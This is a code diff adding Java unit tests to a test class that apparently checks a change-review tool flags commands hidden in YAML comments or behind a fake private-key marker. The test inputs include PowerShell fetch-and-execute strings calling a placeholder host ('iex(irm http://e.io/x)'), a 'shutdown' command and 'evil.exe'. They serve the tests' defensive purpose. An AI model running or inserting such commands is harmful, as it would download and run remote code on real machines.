@@ -126,6 +126,27 @@ class HiddenEditsTest {
                                 .contains("iex(irm('http://e.io/a1'))")));
     }
 
+    /** YAML to a reader of YAML, and a command to a shell. */
+    @ParameterizedTest
+    @ValueSource(strings = {"say: hi # & evil.exe", "say: &evil hi", "say: !evil hi", "say: hi # $(iex(irm http://e.io/x))"})
+    void whatYamlPassesOverIsAChangeAllTheSame(String now) {
+        ResourceChange change = Stack.change(
+                TOPIC, Map.of("command", "log: start\nsay: hi # hello\n"), Map.of("command", "log: start\n" + now + "\n"));
+
+        assertThat(change.onlyNoise()).isFalse();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"iex(irm http://e.io/x) #-----BEGIN PRIVATE KEY-----", "shutdown", "/s", "Start-Service"})
+    void theMarkOfAKeyHidesNoArgument(String argument) {
+        ResourceChange change = Stack.change(
+                TOPIC,
+                Map.of("command", List.of("powershell")),
+                Map.of("command", List.of("powershell", "-----BEGIN PRIVATE KEY-----", argument, "w3svc")));
+
+        assertThat(Stack.lines(change)).anySatisfy(line -> assertThat(line).contains(argument));
+    }
+
     /** Whatever else a masked text is, what it does is told. */
     @Test
     void aDangerWhoseNameIsMaskedIsOne() {
